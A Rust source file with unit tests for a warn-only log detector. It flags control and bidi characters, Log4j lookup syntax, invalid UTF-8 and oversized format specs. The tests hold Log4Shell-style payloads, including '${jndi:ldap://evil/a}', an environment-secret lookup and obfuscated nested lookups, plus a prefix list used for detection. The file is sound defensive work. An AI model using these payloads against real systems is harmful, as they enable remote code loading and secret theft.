//! The warn-only detector (docs/rules.md): `control-chars`, `bidi-control`, `lookup-syntax`,
//! `invalid-utf8` and `format-like-text`. It explains a record; it never blocks one.
//!
//! # Cost
//!
//! Most log text is plain ASCII prose, so the common path is one vectorisable pass per
//! string that looks for the only bytes any rule starts from (`%`, `{`, `$`, controls and
//! non-ASCII lead bytes) and returns when there are none (measured at 11–17 GB/s on 1 KiB
//! and longer ASCII, 1–2 GB/s on 34-byte messages where the call itself dominates).
//! A string that holds one of them pays for a chunked scan for controls and then exact
//! scanners that hop from `%`, `{` and `$` with `memchr` and tokenise like CPython, so
//! `%%2400000000d` and `{{:99999}}` stay quiet. The one regex (a `{}` field body, built
//! once with explicit size limits) only runs on a field that has a `:` and four digits.
//!
//! A `RegexSet` pass in front of the scanners was built and
//! measured: on `%`- and `{`-dense text (URL-encoded queries) the set's one pass ran at
//! 0.16–0.22 GB/s while the exact scanners alone run at 0.6 GB/s, and on plain text neither
//! runs; so the set was a net cost and is gone. Every scanner is linear in its input.
//!
//! # Decisions
//!
//! - `bidi-control` covers the embedding, override and isolate controls (U+202A–U+202E,
//!   U+2066–U+2069): the ones that reorder text (Trojan Source) and that the line escapes.
//!   The marks U+200E, U+200F and U+061C are not reported: they cannot reorder a run by
//!   themselves, they are common in ordinary right-to-left text, and the line keeps them.
//! - Dict keys count as strings of args and fields: they reach the JSON line too.
//! - A width or precision "has 4 or more digits" by value (>= 1000): leading zeros are
//!   flags or padding to CPython (`%0001d` is width 1), so they do not count.
//! - A `%`-conversion with a width (`%10%`) must carry no `-`, `+` or space flag: prose
//!   writes ranges and lists of percentages (`10%-20%`, `50% 75%`) that would otherwise
//!   read as such specs. A 4-digit width or precision fires with any flag.
//! - A `{}` field must be named like a template field (an identifier or an index, with
//!   `[key]`/`.attr` parts): `{"count": 12345}` is JSON, not a replacement field.
//! - `lookup-syntax` fires on an outermost `${…}` whose key is a Log4j lookup prefix
//!   (`jndi`, `env`, `lower`, … case-insensitive), is empty (`${::-j}`), or holds a nested
//!   `${` (`${${lower:j}ndi:…}`, `${j${::-n}di:…}`): one finding per outermost expression.
//!   `${name}` (a `$`-style placeholder) and shell-like `${HOME:-/root}` stay quiet.
//! - `invalid-utf8` points at the first U+FFFD in `msg` when there is one (the decoder's
//!   replacement; a U+FFFD that was in the input already is indistinguishable).

use std::sync::OnceLock;

use regex::{Regex, RegexBuilder};

use crate::finding::{sort_findings, Finding, Rule};
use crate::value::Value;

/// Bound on the compiled size of the detector's regexes: they are small and fixed, so a
/// build that grows past this is a bug, and the detector then degrades to its exact
/// scanners rather than taking unbounded memory.
const REGEX_SIZE_LIMIT: usize = 1 << 20;
/// Bound on the lazy DFA cache of a regex, per thread that uses it.
const REGEX_DFA_SIZE_LIMIT: usize = 1 << 20;

/// Finds the warn findings of one record.
///
/// `msg` is the template (or the verbatim message); `verbatim` says it has no args, so
/// `format-like-text` applies; `others` are every string of the args and fields (see
/// [`value_strings`]); `invalid_utf8` says the body (or a JSON string in it) was decoded
/// lossily. Offsets are byte offsets into `msg`; a finding elsewhere has none.
pub fn detect<'a, I>(msg: &str, verbatim: bool, others: I, invalid_utf8: bool) -> Vec<Finding>
where
    I: IntoIterator<Item = &'a str>,
{
    let mut findings = Vec::new();
    let mut control: Option<Hit> = None;
    let mut bidi: Option<Hit> = None;

    if !is_plain(msg.as_bytes()) {
        let scan = scan_chars(msg.as_bytes());
        control = scan.control.map(|(offset, c)| Hit {
            offset: Some(offset),
            c,
        });
        bidi = scan.bidi.map(|(offset, c)| Hit {
            offset: Some(offset),
            c,
        });
        scan_syntax(msg, true, verbatim, &mut findings);
    }
    for s in others {
        if is_plain(s.as_bytes()) {
            continue;
        }
        if control.is_none() || bidi.is_none() {
            let scan = scan_chars(s.as_bytes());
            if control.is_none() {
                control = scan.control.map(|(_, c)| Hit { offset: None, c });
            }
            if bidi.is_none() {
                bidi = scan.bidi.map(|(_, c)| Hit { offset: None, c });
            }
        }
        scan_syntax(s, false, false, &mut findings);
    }

    if let Some(hit) = control {
        findings.push(Finding::new(
            Rule::ControlChars,
            hit.offset,
            hit.detail("control character"),
        ));
    }
    if let Some(hit) = bidi {
        findings.push(Finding::new(
            Rule::BidiControl,
            hit.offset,
            hit.detail("bidi control"),
        ));
    }
    if invalid_utf8 {
        let offset = memchr::memmem::find(msg.as_bytes(), "\u{FFFD}".as_bytes());
        findings.push(Finding::new(
            Rule::InvalidUtf8,
            offset,
            "not valid UTF-8 (or a lone surrogate): decoded with U+FFFD",
        ));
    }
    sort_findings(&mut findings);
    findings
}

/// Every string in `v`, recursively: string values and dict keys, in document order.
pub fn value_strings(v: &Value) -> ValueStrings<'_> {
    ValueStrings {
        next: Some(v),
        open: Vec::new(),
    }
}

/// The iterator of [`value_strings`]. Walks with an explicit stack of open containers, so
/// depth costs heap, not call stack, and a wide list costs nothing.
#[derive(Debug)]
pub struct ValueStrings<'a> {
    /// The value to look at next: the one given, then a dict value after its key.
    next: Option<&'a Value>,
    /// Where the walk of each open container stands, outermost first.
    open: Vec<Walk<'a>>,
}

#[derive(Debug)]
enum Walk<'a> {
    List(std::slice::Iter<'a, Value>),
    Dict(indexmap::map::Iter<'a, String, Value>),
}

impl<'a> Iterator for ValueStrings<'a> {
    type Item = &'a str;

    fn next(&mut self) -> Option<&'a str> {
        loop {
            let v = match self.next.take() {
                Some(v) => v,
                None => match self.open.last_mut()? {
                    Walk::List(items) => match items.next() {
                        Some(v) => v,
                        None => {
                            self.open.pop();
                            continue;
                        }
                    },
                    Walk::Dict(entries) => match entries.next() {
                        Some((k, v)) => {
                            self.next = Some(v);
                            return Some(k);
                        }
                        None => {
                            self.open.pop();
                            continue;
                        }
                    },
                },
            };
            match v {
                Value::Str(s) => return Some(s),
                Value::List(items) => self.open.push(Walk::List(items.iter())),
                Value::Dict(map) => self.open.push(Walk::Dict(map.iter())),
                _ => {}
            }
        }
    }
}

/// The first control or bidi character seen, for a once-per-record finding.
#[derive(Clone, Copy, Debug)]
struct Hit {
    offset: Option<usize>,
    c: char,
}

impl Hit {
    fn detail(&self, what: &str) -> String {
        let place = if self.offset.is_some() {
            ""
        } else {
            " in args or fields"
        };
        format!(
            "{what} U+{:04X}{place} (escaped in the line)",
            self.c as u32
        )
    }
}

/// True when no rule can start anywhere in `b`: ASCII with no control byte and none of
/// `%`, `{`, `$`. Written as a branch-free reduction over fixed chunks so it vectorises;
/// this is the whole cost of the detector on ordinary text.
#[inline]
fn is_plain(b: &[u8]) -> bool {
    #[inline(always)]
    fn special(x: u8) -> bool {
        !(0x20..0x7f).contains(&x) | (x == b'%') | (x == b'{') | (x == b'$')
    }
    #[inline(always)]
    fn any_special(chunk: &[u8; 64]) -> bool {
        let mut any = false;
        for &x in chunk {
            any |= special(x);
        }
        any
    }
    let mut chunks = b.chunks_exact(64);
    for chunk in &mut chunks {
        if chunk.try_into().map_or(true, any_special) {
            return false;
        }
    }
    // The tail goes through the same vector check, padded with a plain byte: short
    // messages are the common case and a byte loop would dominate them.
    let rest = chunks.remainder();
    let mut tail = [b'a'; 64];
    tail[..rest.len()].copy_from_slice(rest);
    !any_special(&tail)
}

/// The offset of the first byte that may start a control or bidi character: a C0
/// control, DEL, or a 0xC2 / 0xE2 lead byte. Skips clean 32-byte chunks without branching.
#[inline]
fn next_char_candidate(b: &[u8], from: usize) -> Option<usize> {
    #[inline(always)]
    fn candidate(x: u8) -> bool {
        (x < 0x20) | (x == 0x7f) | (x == 0xc2) | (x == 0xe2)
    }
    let mut base = from;
    for chunk in b[from..].chunks(32) {
        let mut any = false;
        for &x in chunk {
            any |= candidate(x);
        }
        if any {
            return chunk.iter().position(|&x| candidate(x)).map(|p| base + p);
        }
        base += chunk.len();
    }
    None
}

/// Where the first control and the first bidi character of a string are.
#[derive(Debug, Default)]
struct CharScan {
    control: Option<(usize, char)>,
    bidi: Option<(usize, char)>,
}

/// C0 controls, DEL, C1 controls and U+2028/U+2029 are `control-chars`; U+202A–U+202E and
/// U+2066–U+2069 are `bidi-control`. Works on the UTF-8 bytes: each of these is one byte,
/// or a fixed two- or three-byte sequence led by 0xC2 or 0xE2.
fn scan_chars(b: &[u8]) -> CharScan {
    let mut scan = CharScan::default();
    let mut from = 0;
    while let Some(i) = next_char_candidate(b, from) {
        let x = b[i];
        if x < 0x20 || x == 0x7f {
            scan.control.get_or_insert((i, char::from(x)));
        } else if x == 0xc2 {
            if let Some(&y) = b.get(i + 1) {
                if (0x80..=0x9f).contains(&y) {
                    scan.control.get_or_insert((i, char::from(y)));
                }
            }
        } else if let (Some(&y), Some(&z)) = (b.get(i + 1), b.get(i + 2)) {
            // 0xE2: U+2000–U+2FFF.
            let cp = 0x2000 | (u32::from(y & 0x3f) << 6) | u32::from(z & 0x3f);
            let c = char::from_u32(cp).unwrap_or('\u{FFFD}');
            match cp {
                0x2028 | 0x2029 => {
                    scan.control.get_or_insert((i, c));
                }
                0x202a..=0x202e | 0x2066..=0x2069 => {
                    scan.bidi.get_or_insert((i, c));
                }
                _ => {}
            }
        }
        if scan.control.is_some() && scan.bidi.is_some() {
            break;
        }
        from = i + 1;
    }
    scan
}

/// The body of a `{}` replacement field that has a format spec; captures the width and
/// precision digits.
const BRACE_FIELD: &str = r"^(?:[^\W\d]\w*|[0-9]+)?(?:\[[^\]]*\]|\.[^\W\d]\w*)*(?:![rsa])?:(?:(?s:.)?[<>=^])?[-+ ]?z?#?0?([0-9]+)?[,_]?(?:\.([0-9]+))?[bcdeEfFgGnosxX%]?$";

/// Log4j lookup prefixes (its `Interpolator`), matched case-insensitively.
const LOOKUP_PREFIXES: [&str; 22] = [
    "jndi",
    "env",
    "sys",
    "lower",
    "upper",
    "date",
    "ctx",
    "main",
    "java",
    "base64",
    "bundle",
    "docker",
    "k8s",
    "kubernetes",
    "log4j",
    "marker",
    "map",
    "sd",
    "spring",
    "web",
    "event",
    "jvmrunargs",
];

/// The `{}` field-body regex, built once; `None` if it failed to build within its limits
/// (it never should: a test pins it), and the brace rule then stays quiet.
/// Builds the detector's regex now, and runs it once on this thread (its search cache,
/// ~170 KB, is made on first use), so that its one-time cost (a few MiB, tens of ms) is
/// paid at start-up and never charged to the first record that needs it.
pub fn warm_up() {
    if let Some(re) = brace_field_regex() {
        let _ = re.captures("0!r:>{10000}.1000s");
    }
}

fn brace_field_regex() -> Option<&'static Regex> {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    RE.get_or_init(|| {
        RegexBuilder::new(BRACE_FIELD)
            .size_limit(REGEX_SIZE_LIMIT)
            .dfa_size_limit(REGEX_DFA_SIZE_LIMIT)
            .build()
            .ok()
    })
    .as_ref()
}

/// Runs the syntax rules over one string: `lookup-syntax` everywhere, `format-like-text`
/// only on a verbatim `msg`.
fn scan_syntax(s: &str, is_msg: bool, verbatim: bool, findings: &mut Vec<Finding>) {
    let offset = |at: usize| if is_msg { Some(at) } else { None };
    for (at, detail) in lookups(s) {
        findings.push(Finding::new(Rule::LookupSyntax, offset(at), detail));
    }
    if verbatim {
        for (at, detail) in wide_percent_specs(s)
            .into_iter()
            .chain(wide_brace_fields(s))
        {
            findings.push(Finding::new(Rule::FormatLikeText, offset(at), detail));
        }
    }
}

/// Every outermost `${…}` that is a lookup, with its offset and a fixed-vocabulary detail.
fn lookups(s: &str) -> Vec<(usize, String)> {
    let b = s.as_bytes();
    let mut found = Vec::new();
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'$', &b[i..]) {
        let at = i + p;
        if b.get(at + 1) != Some(&b'{') {
            i = at + 1;
            continue;
        }
        let (end, nested) = lookup_extent(b, at);
        let key = lookup_key(&b[at + 2..end]);
        let detail = if b[at + 2..].starts_with(b"${") || nested {
            Some("nested lookup `${${…}…}` (obfuscated Log4Shell-style)".to_string())
        } else {
            match key {
                Some([]) => {
                    Some("lookup with an empty key `${:…}` (obfuscated Log4Shell-style)".into())
                }
                Some(k) => LOOKUP_PREFIXES
                    .iter()
                    .find(|p| p.as_bytes().eq_ignore_ascii_case(k))
                    .map(|p| format!("Log4Shell-style lookup `${{{p}:…}}`")),
                None => None,
            }
        };
        match detail {
            Some(d) => {
                found.push((at, d));
                i = end.max(at + 2);
            }
            None => i = at + 2,
        }
    }
    found
}

/// The end (exclusive, after the closing `}` or at the end of the text) of the `${`
/// expression starting at `at`, and whether a `${` opens inside it.
fn lookup_extent(b: &[u8], at: usize) -> (usize, bool) {
    let mut depth = 1usize;
    let mut nested = false;
    let mut j = at + 2;
    while j < b.len() {
        match b[j] {
            b'$' if b.get(j + 1) == Some(&b'{') => {
                depth += 1;
                nested = true;
                j += 2;
                continue;
            }
            b'}' => {
                depth -= 1;
                if depth == 0 {
                    return (j + 1, nested);
                }
            }
            _ => {}
        }
        j += 1;
    }
    (b.len(), nested)
}

/// The key of a lookup body (`jndi` in `jndi:ldap://…`), trimmed; `None` when the body has
/// no `:` before its end.
fn lookup_key(body: &[u8]) -> Option<&[u8]> {
    let colon = body.iter().position(|&c| c == b':' || c == b'}')?;
    if body[colon] != b':' {
        return None;
    }
    Some(body[..colon].trim_ascii())
}

/// Every `%` spec of `s` (tokenised like CPython's `%`, so `%%` is a literal) whose width
/// or precision is 1000 or more, or whose conversion is `%` with a width.
fn wide_percent_specs(s: &str) -> Vec<(usize, String)> {
    let b = s.as_bytes();
    let mut found = Vec::new();
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'%', &b[i..]) {
        let at = i + p;
        match parse_percent_spec(b, at) {
            Parse::Spec(spec) => {
                if let Some(detail) = spec.format_like() {
                    found.push((at, detail));
                }
                i = spec.end;
            }
            Parse::NotASpec => i = at + 1,
            // No later `%(` can close either (CPython stops here too): stopping keeps the
            // scan linear on `%(%(%(…`.
            Parse::UnclosedKey => break,
        }
    }
    found
}

/// A `%` spec as CPython parses it: `%[(key)][flags][width][.precision][hlL]conversion`.
#[derive(Debug)]
struct PercentSpec<'a> {
    flags: &'a [u8],
    width: &'a [u8],
    precision: Option<&'a [u8]>,
    conversion: u8,
    end: usize,
}

/// CPython's `%` conversion characters.
const CONVERSIONS: [bool; 256] = {
    let mut t = [false; 256];
    let s = b"diouxXeEfFgGcrsa%";
    let mut i = 0;
    while i < s.len() {
        t[s[i] as usize] = true;
        i += 1;
    }
    t
};

/// What CPython's parser makes of the text after one `%`.
#[derive(Debug)]
enum Parse<'a> {
    Spec(PercentSpec<'a>),
    NotASpec,
    /// `%(` without its `)`: CPython's "incomplete format key".
    UnclosedKey,
}

fn parse_percent_spec(b: &[u8], at: usize) -> Parse<'_> {
    let mut j = at + 1;
    if b.get(j) == Some(&b'(') {
        let mut depth = 1usize;
        j += 1;
        while depth > 0 {
            let Some(c) = b.get(j) else {
                return Parse::UnclosedKey;
            };
            match c {
                b'(' => depth += 1,
                b')' => depth -= 1,
                _ => {}
            }
            j += 1;
        }
    }
    let take = |j: &mut usize, pred: fn(u8) -> bool| {
        let start = *j;
        while b.get(*j).is_some_and(|&c| pred(c)) {
            *j += 1;
        }
        &b[start..*j]
    };
    let flags = take(&mut j, |c| matches!(c, b'-' | b'+' | b' ' | b'#' | b'0'));
    let width = if b.get(j) == Some(&b'*') {
        j += 1;
        &b[j - 1..j]
    } else {
        take(&mut j, |c| c.is_ascii_digit())
    };
    let precision = if b.get(j) == Some(&b'.') {
        j += 1;
        Some(if b.get(j) == Some(&b'*') {
            j += 1;
            &b[j - 1..j]
        } else {
            take(&mut j, |c| c.is_ascii_digit())
        })
    } else {
        None
    };
    if matches!(b.get(j), Some(b'h' | b'l' | b'L')) {
        j += 1;
    }
    let Some(&conversion) = b.get(j) else {
        return Parse::NotASpec;
    };
    if !CONVERSIONS[usize::from(conversion)] {
        return Parse::NotASpec;
    }
    Parse::Spec(PercentSpec {
        flags,
        width,
        precision,
        conversion,
        end: j + 1,
    })
}

impl PercentSpec<'_> {
    fn format_like(&self) -> Option<String> {
        if is_wide(self.width) {
            return Some(wide_detail("width", self.width, "%"));
        }
        if let Some(p) = self.precision.filter(|p| is_wide(p)) {
            return Some(wide_detail("precision", p, "%"));
        }
        let prose_flags = self.flags.iter().any(|c| matches!(c, b'-' | b'+' | b' '));
        if self.conversion == b'%' && !self.width.is_empty() && !prose_flags {
            return Some(
                "`%` conversion with a width (like `%10%`): dangerous if this text is ever \
                 used as a template"
                    .to_string(),
            );
        }
        None
    }
}

/// Every `{…}` replacement field of `s` (tokenised like `str.format`, so `{{` is a literal)
/// whose spec has a width or precision of 1000 or more.
fn wide_brace_fields(s: &str) -> Vec<(usize, String)> {
    let Some(re) = brace_field_regex() else {
        return Vec::new();
    };
    let b = s.as_bytes();
    let mut found = Vec::new();
    let mut i = 0;
    while let Some(p) = memchr::memchr2(b'{', b'}', &b[i..]) {
        let at = i + p;
        if b.get(at + 1) == Some(&b[at]) {
            i = at + 2;
            continue;
        }
        if b[at] == b'}' {
            i = at + 1;
            continue;
        }
        let Some(end) = brace_field_end(b, at) else {
            break;
        };
        // `at + 1` and `end` are ASCII brace positions: char boundaries. The regex only
        // runs on a body that has a `:` and four digits in a row.
        let body = &b[at + 1..end];
        let worth = memchr::memchr(b':', body).is_some() && has_digit_run(body, 4);
        let caps = if worth {
            s.get(at + 1..end).and_then(|body| re.captures(body))
        } else {
            None
        };
        if let Some(caps) = caps {
            let width = caps
                .get(1)
                .map(|m| m.as_str().as_bytes())
                .unwrap_or_default();
            let precision = caps
                .get(2)
                .map(|m| m.as_str().as_bytes())
                .unwrap_or_default();
            if is_wide(width) {
                found.push((at, wide_detail("width", width, "{}")));
            } else if is_wide(precision) {
                found.push((at, wide_detail("precision", precision, "{}")));
            }
        }
        i = end + 1;
    }
    found
}

/// The index of the `}` that closes the field opened at `at`, counting nested braces as
/// `str.format` does.
fn brace_field_end(b: &[u8], at: usize) -> Option<usize> {
    let mut depth = 1usize;
    let mut j = at + 1;
    while let Some(p) = memchr::memchr2(b'{', b'}', &b[j..]) {
        j += p;
        if b[j] == b'{' {
            depth += 1;
        } else {
            depth -= 1;
            if depth == 0 {
                return Some(j);
            }
        }
        j += 1;
    }
    None
}

/// Whether `b` holds `n` ASCII digits in a row.
fn has_digit_run(b: &[u8], n: usize) -> bool {
    let mut run = 0;
    for &c in b {
        run = if c.is_ascii_digit() { run + 1 } else { 0 };
        if run >= n {
            return true;
        }
    }
    false
}

/// A width or precision of 1000 or more (leading zeros do not count).
fn is_wide(digits: &[u8]) -> bool {
    let significant = digits
        .iter()
        .position(|&c| c != b'0')
        .map_or(0, |p| digits.len() - p);
    digits.iter().all(u8::is_ascii_digit) && significant >= 4
}

fn wide_detail(what: &str, digits: &[u8], style: &str) -> String {
    let start = digits
        .iter()
        .position(|&c| c != b'0')
        .unwrap_or(digits.len());
    let digits = &digits[start..];
    let shown = if digits.len() <= 20 {
        String::from_utf8_lossy(digits).into_owned()
    } else {
        format!("of {} digits", digits.len())
    };
    format!("{what} {shown} in a `{style}` spec: dangerous if this text is ever used as a template")
}

#[cfg(test)]
mod tests {
    use super::*;
    use indexmap::IndexMap;

    fn rules(findings: &[Finding]) -> Vec<(&'static str, Option<usize>)> {
        findings.iter().map(|f| (f.rule.id(), f.offset)).collect()
    }

    fn verbatim(msg: &str) -> Vec<(&'static str, Option<usize>)> {
        rules(&detect(msg, true, [], false))
    }

    fn quiet(msg: &str) {
        assert_eq!(verbatim(msg), vec![], "{msg:?} should not warn");
    }

    #[test]
    fn benign_text_is_quiet() {
        for msg in [
            "",
            "user alice logged in from 10.0.0.1",
            "GET /search?q=caf%C3%A9%20au%20lait&x=%2F%2Fa HTTP/1.1",
            "disk at 100% on /var",
            "100%",
            "50%% done",
            "done {} {name} {0} {user.id} {items[0]}",
            r#"{"count": 12345, "nested": {"b": 99999}}"#,
            "{a}{b}{c}",
            "price: $5 ${name} ${HOME:-/root} $HOME",
            "emoji 🚀🔥 and 日本語",
            "עברית עם מספרים 123 ו-English",
            "مرحبا بالعالم",
            "progress 10%-20% 50% 75% 100%",
            "%20d %.3f %5s %d%%",
            "%%2400000000d {{:99999999}}",
            "width {:>10} precision {:.999}",
            "time {10:30:00}",
        ] {
            quiet(msg);
        }
    }

    #[test]
    fn control_chars_are_reported_once_with_first_offset() {
        let f = detect("a\tb\nc\x1b[31m", true, [], false);
        assert_eq!(rules(&f), vec![("control-chars", Some(1))]);
        assert!(f[0].detail.contains("U+0009"), "{}", f[0].detail);
    }

    #[test]
    fn del_c1_and_line_separators_are_control_chars() {
        assert_eq!(verbatim("ab\x7f"), vec![("control-chars", Some(2))]);
        assert_eq!(verbatim("é\u{85}"), vec![("control-chars", Some(2))]);
        assert_eq!(verbatim("x\u{9b}31m"), vec![("control-chars", Some(1))]);
        assert_eq!(verbatim("x\u{2028}y"), vec![("control-chars", Some(1))]);
        assert_eq!(verbatim("x\u{2029}y"), vec![("control-chars", Some(1))]);
        assert_eq!(
            verbatim("trailing newline\n"),
            vec![("control-chars", Some(16))]
        );
    }

    #[test]
    fn non_control_neighbours_of_c1_are_quiet() {
        quiet("\u{a0}nbsp \u{ff} \u{100} \u{2027} \u{202f} \u{2065} \u{206a} \u{2014}");
    }

    #[test]
    fn bidi_overrides_and_isolates_are_reported() {
        for c in ['\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}'] {
            assert_eq!(
                verbatim(&format!("ab{c}cd")),
                vec![("bidi-control", Some(2))]
            );
        }
        for c in ['\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}'] {
            assert_eq!(
                verbatim(&format!("ab{c}cd")),
                vec![("bidi-control", Some(2))]
            );
        }
    }

    #[test]
    fn bidi_marks_and_rtl_text_are_quiet() {
        quiet("שלום \u{200f}עולם\u{200e} abc \u{61c}");
    }

    #[test]
    fn control_and_bidi_in_args_have_no_offset() {
        let f = detect("ok", false, ["x\u{202e}y", "a\nb", "c\td"], false);
        assert_eq!(
            rules(&f),
            vec![("bidi-control", None), ("control-chars", None)]
        );
        assert!(f[1].detail.contains("in args or fields"));
    }

    #[test]
    fn control_in_msg_wins_the_offset_over_args() {
        let f = detect("ab\n", false, ["\x01"], false);
        assert_eq!(rules(&f), vec![("control-chars", Some(2))]);
    }

    #[test]
    fn lookup_syntax_is_found_per_occurrence() {
        assert_eq!(
            verbatim("x ${jndi:ldap://evil/a}"),
            vec![("lookup-syntax", Some(2))]
        );
        assert_eq!(
            verbatim("${env:AWS_SECRET} and ${JNDI:rmi://x}"),
            vec![("lookup-syntax", Some(0)), ("lookup-syntax", Some(22))]
        );
        assert_eq!(
            verbatim("${ jNdI :ldap://x}"),
            vec![("lookup-syntax", Some(0))]
        );
    }

    #[test]
    fn nested_lookup_is_one_occurrence() {
        let f = detect("a ${${lower:j}ndi:ldap://x/y}", true, [], false);
        assert_eq!(rules(&f), vec![("lookup-syntax", Some(2))]);
        assert!(f[0].detail.contains("nested"));
        assert_eq!(
            verbatim("${j${::-n}di:ldap://x}"),
            vec![("lookup-syntax", Some(0))]
        );
        assert_eq!(
            verbatim("${${::-j}${::-n}${::-d}${::-i}:ldap://x}"),
            vec![("lookup-syntax", Some(0))]
        );
        assert_eq!(verbatim("${::-j}"), vec![("lookup-syntax", Some(0))]);
    }

    #[test]
    fn unterminated_lookup_is_still_reported() {
        assert_eq!(
            verbatim("${jndi:ldap://x"),
            vec![("lookup-syntax", Some(0))]
        );
    }

    #[test]
    fn lookup_in_args_and_fields_has_no_offset() {
        let args = Value::List(vec![
            Value::Int(crate::value::Int::Small(1)),
            Value::Str("${jndi:x}".into()),
        ]);
        let mut m = IndexMap::new();
        m.insert("${env:K}".to_string(), Value::Str("v".into()));
        let fields = Value::Dict(Box::new(m));
        let f = detect(
            "%s",
            false,
            value_strings(&args).chain(value_strings(&fields)),
            false,
        );
        assert_eq!(
            rules(&f),
            vec![("lookup-syntax", None), ("lookup-syntax", None)]
        );
    }

    #[test]
    fn percent_huge_width_is_format_like() {
        let msg = "https://www.amazon.com/dp/B0?ref=%2400000000d&x=1";
        let f = detect(msg, true, [], false);
        assert_eq!(rules(&f), vec![("format-like-text", Some(33))]);
        assert!(f[0].detail.contains("width 2400000000"), "{}", f[0].detail);
    }

    #[test]
    fn percent_wide_precision_and_keys_are_format_like() {
        assert_eq!(verbatim("x %.5000f"), vec![("format-like-text", Some(2))]);
        assert_eq!(
            verbatim("%(name)-1000s"),
            vec![("format-like-text", Some(0))]
        );
        assert_eq!(
            verbatim("%(a(b)c)1000s"),
            vec![("format-like-text", Some(0))]
        );
        assert_eq!(verbatim("%*.1000d"), vec![("format-like-text", Some(0))]);
        assert_eq!(verbatim("%1000ld"), vec![("format-like-text", Some(0))]);
        assert_eq!(verbatim("100% 2000x"), vec![("format-like-text", Some(3))]);
    }

    #[test]
    fn percent_small_or_zero_padded_width_is_quiet() {
        quiet("%999d %.999f %0001d %.0999f");
        quiet("%2520world");
        quiet("%1000"); // no conversion: not a spec
    }

    #[test]
    fn percent_conversion_with_width_is_format_like() {
        assert_eq!(verbatim("%10%"), vec![("format-like-text", Some(0))]);
        assert_eq!(
            verbatim("a %*% b %05%"),
            vec![("format-like-text", Some(2)), ("format-like-text", Some(8))]
        );
        quiet("%%10%% 10%-20% 50% 75%");
    }

    #[test]
    fn format_like_text_only_on_verbatim_msg() {
        assert_eq!(rules(&detect("%2400000000d", false, [], false)), vec![]);
        assert_eq!(
            rules(&detect("ok", true, ["%2400000000d", "{:>99999}"], false)),
            vec![]
        );
    }

    #[test]
    fn brace_huge_width_is_format_like() {
        assert_eq!(
            verbatim("x {:>99999999}"),
            vec![("format-like-text", Some(2))]
        );
        assert_eq!(verbatim("{0:*^1000}"), vec![("format-like-text", Some(0))]);
        assert_eq!(
            verbatim("{name!r:01000}"),
            vec![("format-like-text", Some(0))]
        );
        assert_eq!(
            verbatim("{x[0]:.5000f}"),
            vec![("format-like-text", Some(0))]
        );
        assert_eq!(verbatim("{:1000,}"), vec![("format-like-text", Some(0))]);
        assert_eq!(
            verbatim("{x[a:b]:1000}"),
            vec![("format-like-text", Some(0))]
        );
        assert_eq!(
            verbatim("a {:1000} b {:2000}"),
            vec![
                ("format-like-text", Some(2)),
                ("format-like-text", Some(12))
            ]
        );
    }

    #[test]
    fn brace_escaped_or_json_or_small_is_quiet() {
        quiet("{{:>99999999}}");
        quiet(r#"{"a": 1234}"#);
        quiet("{:>999} {:0999}");
        quiet("{:>{}}");
    }

    #[test]
    fn invalid_utf8_points_at_first_replacement_in_msg() {
        assert_eq!(
            rules(&detect("ab\u{FFFD}c", true, [], true)),
            vec![("invalid-utf8", Some(2))]
        );
        assert_eq!(
            rules(&detect("abc", true, [], true)),
            vec![("invalid-utf8", None)]
        );
        assert_eq!(rules(&detect("ab\u{FFFD}c", true, [], false)), vec![]);
    }

    #[test]
    fn findings_are_sorted_by_offset_then_rule() {
        let f = detect("\u{202e}${jndi:x} %5000d\n", true, ["\x01"], true);
        assert_eq!(
            rules(&f),
            vec![
                ("bidi-control", Some(0)),
                ("lookup-syntax", Some(3)),
                ("format-like-text", Some(13)),
                ("control-chars", Some(19)),
                ("invalid-utf8", None),
            ]
        );
    }

    #[test]
    fn value_strings_walks_lists_and_dicts_in_order() {
        let mut inner = IndexMap::new();
        inner.insert(
            "k2".to_string(),
            Value::List(vec![Value::Str("c".into()), Value::None]),
        );
        let mut m = IndexMap::new();
        m.insert("k1".to_string(), Value::Str("a".into()));
        m.insert("d".to_string(), Value::Dict(Box::new(inner)));
        let v = Value::List(vec![
            Value::Str("x".into()),
            Value::Dict(Box::new(m)),
            Value::Bool(true),
        ]);
        let got: Vec<&str> = value_strings(&v).collect();
        assert_eq!(got, vec!["x", "k1", "a", "d", "k2", "c"]);
    }

    #[test]
    fn unclosed_keys_and_braces_scan_in_linear_time() {
        for unit in ["%(", "{ ", "${a ", "{:", "%(a)", "${"] {
            let msg = unit.repeat(200_000);
            let t = std::time::Instant::now();
            let _ = detect(&msg, true, [], false);
            assert!(t.elapsed().as_secs() < 5, "{unit:?} took {:?}", t.elapsed());
        }
    }

    #[test]
    fn brace_regex_builds_within_limits() {
        assert!(brace_field_regex().is_some());
    }

    #[test]
    fn plain_check_sees_every_special_byte_in_any_position() {
        let base = vec![b'a'; 150];
        assert!(is_plain(&base));
        for pos in [0, 63, 64, 127, 128, 149] {
            for x in [b'%', b'{', b'$', 0, b'\n', 0x7f, 0xc3] {
                let mut v = base.clone();
                v[pos] = x;
                assert!(!is_plain(&v), "byte {x:#x} at {pos}");
            }
        }
    }
}
